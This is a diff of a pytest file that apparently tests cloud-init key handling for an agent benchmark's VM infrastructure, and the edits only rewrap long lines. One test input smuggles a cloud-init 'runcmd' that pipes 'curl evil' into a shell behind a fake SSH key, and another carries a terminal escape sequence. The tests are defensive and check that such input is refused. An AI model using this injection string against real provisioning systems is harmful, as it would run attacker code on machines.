@@ -258,7 +258,8 @@ def _lease(sshd, waa, tmp_path, *, host_key=None, ready_timeout=5.0):
         keys.write(pair.public_openssh + "\n")
     vm = {"name": "agentbench-test-0", "provider": "aws", "resource_id": "i-0", "region": "us-east-1",
           "size": "m8i.2xlarge", "ssh_user": sshd.user, "public_ip": "127.0.0.1", "private_ip": None,
-          "created_at": 0.0, "deleted_at": None, "host_key": host_key or sshd.host_pub, "extra": {"ssh_port": sshd.port}}
+          "created_at": 0.0, "deleted_at": None, "host_key": host_key or sshd.host_pub,
+          "extra": {"ssh_port": sshd.port}}
     return {"name": vm["name"], "kind": "cloud", "vm": vm, "connect": "ssh", "address": "public",
             "ssh_key": str(key), "waa_port": int(waa.url.rsplit(":", 1)[1]),
             "evaluate_port": int(waa.evaluate_url.rsplit(":", 1)[1]), "ready_timeout": ready_timeout}
@@ -338,7 +339,8 @@ def cloud_init_yaml(data: str) -> dict:
     return yaml.safe_load(data)
 
 
-@pytest.mark.parametrize("comment", ["me@host: admin", "x # y", "'quoted' \"double\"", "a: [b, c]", "{x: 1}", "&a *a !!str"])
+@pytest.mark.parametrize("comment", ["me@host: admin", "x # y", "'quoted' \"double\"", "a: [b, c]", "{x: 1}",
+                                     "&a *a !!str"])
 def test_a_key_comment_that_looks_like_yaml_stays_one_value(tmp_path, comment):
     from pytest_agentbench.infra import cloud_init
 
@@ -352,7 +354,8 @@ def test_a_key_comment_that_looks_like_yaml_stays_one_value(tmp_path, comment):
 @pytest.mark.parametrize("text", [
     "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey me\nruncmd: [[sh, -c, 'curl evil | sh']]\n",
     "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey one\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey two\n",
-    "ssh-ed25519 not*base64 me\n", "ssh-ed25519\n", "-----BEGIN OPENSSH PRIVATE KEY-----\n", "ssh-ed25519 AAAA me\x1b[2J\n",
+    "ssh-ed25519 not*base64 me\n", "ssh-ed25519\n", "-----BEGIN OPENSSH PRIVATE KEY-----\n",
+    "ssh-ed25519 AAAA me\x1b[2J\n",
 ])
 def test_a_public_key_file_that_is_not_one_key_on_one_line_is_refused(tmp_path, text):
     from pytest_agentbench.infra import cloud_init
